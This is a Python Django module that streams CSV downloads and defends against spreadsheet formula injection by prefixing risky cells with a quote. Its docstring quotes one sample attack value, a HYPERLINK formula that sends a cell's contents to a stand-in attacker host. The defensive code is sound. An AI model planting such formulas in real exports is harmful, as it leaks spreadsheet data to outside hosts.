"""CSV exports that are safe to open in a spreadsheet, streamed row by row.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab, carriage return or line
feed) is read by Excel, LibreOffice and Google Sheets as a formula: a participant who writes
``=HYPERLINK("https://evil.example/?"&A1, "click")`` as their position or dietary needs would
otherwise get a live link (or worse) into the staff member's spreadsheet. Such a cell is prefixed
with a single quote, which spreadsheets show as plain text (OWASP "CSV injection").
"""

import csv
import datetime
from decimal import Decimal

from django.http import StreamingHttpResponse

from common.http import no_store

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# Excel reads a UTF-8 file with accented names correctly only when it starts with a BOM.
BOM = "\ufeff"


def safe_cell(value):
    """The text of a cell: empty for None, numbers as they are, text neutralised if it could be a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float | Decimal):
        return str(value)  # a number (even negative) is data, not a formula
    if isinstance(value, datetime.datetime | datetime.date):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


class _Echo:
    """A file-like object whose write() returns what it is given, for csv.writer."""

    def write(self, value):
        return value


def csv_rows(header, rows):
    """Encoded lines of the CSV: the header, then every row, each cell through ``safe_cell``."""
    writer = csv.writer(_Echo())
    yield BOM + writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        yield writer.writerow([safe_cell(cell) for cell in row])


def csv_response(filename, header, rows):
    """A streamed CSV download: ``rows`` may be a generator over a large queryset."""
    response = StreamingHttpResponse(csv_rows(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return no_store(response)
